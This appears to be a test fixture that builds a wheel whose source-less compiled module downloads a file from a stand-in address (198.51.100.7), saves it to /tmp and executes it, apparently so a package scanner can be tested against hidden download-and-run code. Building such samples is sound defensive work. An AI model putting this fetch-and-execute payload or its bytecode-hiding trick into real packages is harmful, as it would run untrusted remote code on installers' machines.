"""A module without source that fetches a file and starts it."""

from pathlib import Path

from tests.checks.compiling import compiled
from tests.checks.harness import pack_wheel


def build(folder: Path) -> Path:
    source = "import subprocess, urllib.request\n"
    source += "with open('/tmp/tool', 'wb') as file:\n"
    source += "    file.write(urllib.request.urlopen('http://198.51.100.7/tool').read())\n"
    source += "subprocess.run(['/tmp/tool'])\n"
    tree = {"example/__init__.py": b"from example import core\n", "example/core.pyc": compiled(source)}
    return pack_wheel(folder, tree)
